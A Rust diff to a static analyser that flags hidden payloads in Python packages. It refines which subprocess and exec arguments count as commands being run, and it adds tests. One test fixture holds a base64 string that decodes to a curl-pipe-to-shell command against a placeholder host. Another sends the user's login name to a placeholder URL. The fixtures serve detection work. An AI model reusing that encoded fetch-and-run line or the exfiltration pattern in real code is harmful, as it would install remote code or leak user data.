@@ -125,11 +125,48 @@ pub enum SinkKind {
 /// Checks whether any argument of a sink call carries source data, and reports the most
 /// severe flow when several arguments carry different data.
 pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
+    // A process's environment, directory and output streams are not what it runs: CGI servers
+    // put a request's decoded credentials in the script's environment.
+    let settings = |name: &str| {
+        sink == SinkKind::Process
+            && matches!(
+                name,
+                "env" | "cwd" | "stdout" | "stderr" | "timeout" | "encoding"
+            )
+    };
+    // `os.execve(path, args, env)`, `os.spawnve(mode, path, args, env)`: the last one is the
+    // environment too.
+    let positional = match &*call.func {
+        Expr::Attribute(function)
+            if sink == SinkKind::Process
+                && matches!(
+                    function.attr.as_str(),
+                    "execve"
+                        | "execle"
+                        | "execvpe"
+                        | "execlpe"
+                        | "spawnve"
+                        | "spawnle"
+                        | "spawnvpe"
+                        | "spawnlpe"
+                ) =>
+        {
+            call.arguments.args.len().saturating_sub(1)
+        }
+        _ => call.arguments.args.len(),
+    };
     let arguments: Vec<&Expr> = call
         .arguments
         .args
         .iter()
-        .chain(call.arguments.keywords.iter().map(|k| &k.value))
+        .take(positional)
+        .chain(
+            call.arguments
+                .keywords
+                .iter()
+                .filter(|k| !k.arg.as_ref().is_some_and(|name| settings(name.as_str())))
+                .map(|k| &k.value),
+        )
         .collect();
     // Each argument answers with its strongest source, and with network data that source
     // outranked: `Popen(reply.split(hostname)[1])` runs what the server sent.
@@ -304,6 +341,29 @@ mod tests {
         // Outside branches, a clean value replaces what the name held.
         let replaced = "import os, requests\ndata = {'user': os.getlogin()}\ndata = {'Error': 'unsupported'}\nrequests.post('https://c.example.invalid/', data=data)\n";
         assert_eq!(max_severity("p-1/setup.py", replaced, "WH200"), 0.0);
+    }
+
+    #[test]
+    fn decoding_what_a_request_carries_is_parsing_not_a_hidden_payload() {
+        // http.server's CGI handler: the basic-auth header is base64, decoded into the
+        // environment of the script it runs.
+        let cgi = "import base64, subprocess\ndef run_cgi(self, cmdline):\n    env = {}\n    authorization = self.headers.get('authorization').split()\n    authorization = authorization[1].encode('ascii')\n    authorization = base64.decodebytes(authorization).decode('ascii')\n    env['REMOTE_USER'] = authorization.split(':')[0]\n    subprocess.Popen(cmdline, env=env)\n";
+        let decoded = |code: &str| {
+            findings("p-1/p/server.py", code)
+                .into_iter()
+                .any(|f| f.rule == "WH200" && f.message.contains("data decoded"))
+        };
+        assert!(!decoded(cgi));
+        let forked = cgi
+            .replace(
+                "subprocess.Popen(cmdline, env=env)",
+                "os.execve(cmdline[0], cmdline, env)",
+            )
+            .replace("import base64,", "import os, base64,");
+        assert!(!decoded(&forked));
+        // A literal the module carries is a hidden payload, wherever it is decoded.
+        let hidden = "import base64, subprocess\nBLOB = 'Y3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA=='\ndef run():\n    command = base64.b64decode(BLOB).decode('ascii')\n    subprocess.Popen(command, shell=True)\n";
+        assert!(decoded(hidden));
     }
 
     #[test]
